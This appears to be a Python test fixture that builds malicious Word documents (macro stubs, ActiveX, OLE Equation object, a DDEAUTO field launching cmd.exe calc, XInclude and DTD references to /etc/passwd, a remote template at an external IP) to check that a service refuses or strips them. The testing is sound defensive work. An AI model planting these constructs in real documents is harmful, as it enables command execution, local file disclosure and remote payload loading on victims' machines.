"""Word documents carrying hostile content — a DTD, an XInclude, macros, ActiveX, OLE objects, DDE fields,
a template fetched from another machine — built from the service's own template as Word would store them."""

from __future__ import annotations

from tests.custom_templates.files import DOCUMENT, built, members, with_parts

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships/"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _text(package: bytes, name: str) -> str:
    return members(package)[name].decode("utf-8")


def with_relationship(package: bytes, rels: str, kind: str, target: str, external: bool = False) -> bytes:
    """The package with one more relationship in `rels` (made if missing)."""
    mode = ' TargetMode="External"' if external else ""
    relationship = f'<Relationship Id="rIdHostile" Type="{kind}" Target="{target}"{mode}/>'
    source = (
        members(package)
        .get(rels, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
        .decode("utf-8")
    )
    return with_parts(package, {rels: source.replace("</Relationships>", relationship + "</Relationships>")})


def with_types(package: bytes, *declarations: str) -> bytes:
    types = _text(package, "[Content_Types].xml")
    return with_parts(package, {"[Content_Types].xml": types.replace("</Types>", "".join(declarations) + "</Types>")})


def docm() -> bytes:
    """A macro-enabled document (.docm) as Word saves it: a VBA project, its data, the macro main type."""
    package = with_relationship(built(), "word/_rels/document.xml.rels", MS_REL + "vbaProject", "vbaProject.bin")
    package = with_parts(
        package,
        {
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
            "word/vbaData.xml": '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
            "word/_rels/vbaProject.bin.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships"><Relationship Id="rId1" Type="{MS_REL}wordVbaData" '
                'Target="vbaData.xml"/></Relationships>'
            ),
        },
    )
    package = with_types(
        package,
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>',
    )
    return with_parts(package, {"[Content_Types].xml": _text(package, "[Content_Types].xml").replace(DOCX_TYPE, DOCM_TYPE)})


def activex() -> bytes:
    package = with_relationship(built(), "word/_rels/document.xml.rels", REL + "control", "activeX/activeX1.xml")
    package = with_parts(
        package,
        {
            "word/activeX/activeX1.xml": '<ax:ocx xmlns:ax="http://schemas.microsoft.com/'
            'office/2006/activeX" ax:classid="{x}"/>'
        },
    )
    return with_types(
        package, '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
    )


def ole_object() -> bytes:
    """An Equation 3.0 object, the kind old Vietnamese documents hold and old exploits used."""
    package = with_relationship(built(), "word/_rels/document.xml.rels", REL + "oleObject", "embeddings/oleObject1.bin")
    package = with_parts(package, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 60})
    return with_types(
        package, '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    )


def remote_template(target: str = "http://203.0.113.9/t.dotm") -> bytes:
    """A document attached to a template Word fetches from another machine when the file is opened."""
    package = with_relationship(built(), "word/_rels/settings.xml.rels", REL + "attachedTemplate", target, external=True)
    settings = _text(package, "word/settings.xml")
    closing = settings.rindex("</w:settings>")
    attached = (
        '<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        'r:id="rIdHostile"/>'
    )
    return with_parts(package, {"word/settings.xml": settings[:closing] + attached + settings[closing:]})


def in_body(xml: str) -> bytes:
    document = _text(built(), DOCUMENT)
    opening = document.index("<w:body>") + len("<w:body>")
    return with_parts(built(), {DOCUMENT: document[:opening] + xml + document[opening:]})


def dde_field() -> bytes:
    """A DDEAUTO field whose instruction Word split over two runs."""
    return in_body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
        '<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def xinclude() -> bytes:
    return in_body('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')


def dtd_in_core_properties() -> bytes:
    core = _text(built(), "docProps/core.xml")
    body = core[core.index("?>") + 2 :] if core.startswith("<?xml") else core
    return with_parts(
        built(),
        {"docProps/core.xml": f'<?xml version="1.0"?><!DOCTYPE cp:coreProperties SYSTEM "file:///etc/passwd">{body}'},
    )


# What every door refuses (422, naming the part): builder, code, part named.
REFUSED = {
    "DTD in docProps/core.xml": (dtd_in_core_properties, "dtd_forbidden", "docProps/core.xml"),
    "XInclude in the body": (xinclude, "xinclude_forbidden", DOCUMENT),
    "ActiveX control": (activex, "activex_forbidden", "word/activeX/activeX1.xml"),
    "OLE object": (ole_object, "ole_object_forbidden", "word/embeddings/oleObject1.bin"),
    "DDE field": (dde_field, "dde_forbidden", DOCUMENT),
}
# What every door but conversion refuses; conversion removes it and says so.
STRIPPED = {
    "macros (.docm)": (docm, "macros_forbidden", "word/vbaProject.bin"),
    "remote template": (remote_template, "remote_template_forbidden", "word/_rels/settings.xml.rels"),
}
